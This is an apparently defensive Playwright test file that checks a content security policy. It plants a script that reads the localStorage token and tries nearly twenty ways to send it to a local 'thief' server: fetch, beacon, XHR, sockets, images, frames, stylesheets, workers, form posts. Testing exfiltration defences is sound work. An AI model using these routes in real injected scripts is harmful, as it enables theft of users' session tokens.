import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from '@playwright/test';
import { enter, openSession } from './accounts.ts';
import { test as base, expect } from './journey.ts';
import { colleague } from './staff.ts';

/** The drill of G27 (trust.md): a script that got into a page cannot carry the token to another origin. */

/** Serves the same to everybody on this machine, and notes what is asked for. */
async function serve(body: string) {
  const asked: string[] = [];
  const server = createServer((request, response) => {
    asked.push(request.url ?? '');
    response.writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'text/html' }).end(body);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const close = () => {
    server.closeAllConnections();
    server.close();
  };
  return { origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, asked, close };
}

/** Somebody else, and a page without any policy. */
type Others = { thief: Awaited<ReturnType<typeof serve>>; bare: Awaited<ReturnType<typeof serve>> };

const test = base.extend<Others>({
  // biome-ignore lint/correctness/noEmptyPattern: Playwright reads the names of the fixtures from this pattern.
  thief: async ({}, use) => {
    const server = await serve('');
    await use(server);
    server.close();
  },
  // biome-ignore lint/correctness/noEmptyPattern: Playwright reads the names of the fixtures from this pattern.
  bare: async ({}, use) => {
    const server = await serve('<!doctype html><body></body>');
    await use(server);
    server.close();
  },
});

/** Tries every way but leaving the page, which no policy forbids, each named in the address that it asks for. */
async function carryAway(page: Page, thief: string): Promise<void> {
  await page.evaluate(async (to) => {
    const token = encodeURIComponent(localStorage.getItem('token') ?? 'none');
    const at = (way: string) => `${to}/${way}?${token}`;
    const element = (name: string, attributes: Record<string, string>) => {
      const made = document.createElement(name);
      for (const [key, value] of Object.entries(attributes)) {
        try {
          made.setAttribute(key, value);
        } catch {
          // Trusted types refuse some.
        }
      }
      document.body.append(made);
      return made;
    };
    const ways: (() => unknown)[] = [
      () => fetch(at('fetch'), { mode: 'no-cors' }),
      () => fetch(at('post'), { method: 'POST', mode: 'no-cors', body: token }),
      () => navigator.sendBeacon(at('beacon'), token),
      () => {
        const asking = new XMLHttpRequest();
        asking.open('GET', at('xhr'));
        asking.send();
      },
      () => new WebSocket(at('socket').replace('http', 'ws')),
      () => new EventSource(at('events')),
      () => {
        new Image().src = at('image');
      },
      () => element('img', { src: at('img') }),
      () => element('iframe', { src: at('frame') }),
      () => element('object', { data: at('object') }),
      () => element('embed', { src: at('embed') }),
      () => element('video', { src: at('video'), autoplay: '' }),
      () => element('link', { rel: 'stylesheet', href: at('sheet') }),
      () => element('link', { rel: 'icon', href: at('icon') }),
      () => element('link', { rel: 'manifest', href: at('manifest') }),
      () => element('div', { style: `background: url("${at('style')}")` }),
      () => element('script', { src: at('script') }),
      () => new Worker(at('worker')),
      () => {
        const form = element('form', {
          action: at('form'),
          method: 'POST',
          target: 'nowhere',
        }) as HTMLFormElement;
        element('iframe', { name: 'nowhere' });
        form.submit();
      },
    ];
    for (const way of ways) {
      try {
        await Promise.resolve(way()).catch(() => {});
      } catch {
        // Refused at once.
      }
    }
    await new Promise((resolve) => setTimeout(resolve, 1_500));
  }, thief);
}

test.describe.configure({ timeout: 90_000 });

test('a planted script carries nothing away from the member centre', { tag: '@desktop' }, async ({
  browser,
  baseURL,
  request,
  thief,
}) => {
  // A page of its own, since the policy reports each way that it bars.
  const page = await (await browser.newContext({ baseURL })).newPage();
  await enter(page, await openSession(request, 'student'), '/member/center');
  expect(await page.evaluate(() => localStorage.getItem('token'))).toContain('access');
  await carryAway(page, thief.origin);
  expect(thief.asked).toEqual([]);
  // What was barred is told to the staff, with where it would have gone and without what.
  const staff = await colleague(browser, baseURL ?? '', 'admin', '/staff/system');
  const told = staff.getByRole('row', { name: thief.origin }).filter({ hasText: 'connect-src' });
  await expect(told.filter({ hasText: '/member/center' })).toBeVisible({ timeout: 20_000 });
  await expect(staff.getByText('access')).toHaveCount(0);
});

test('the drill sees what a page without a policy lets through', { tag: '@desktop' }, async ({
  browser,
  bare,
  thief,
}) => {
  const page = await (await browser.newContext()).newPage();
  await page.goto(bare.origin);
  await carryAway(page, thief.origin);
  const ways = new Set(thief.asked.map((address) => /^\/(\w+)/.exec(address)?.[1]));
  for (const way of ['fetch', 'post', 'beacon', 'xhr', 'image', 'img', 'frame', 'style', 'script', 'form'])
    expect([...ways]).toContain(way);
});
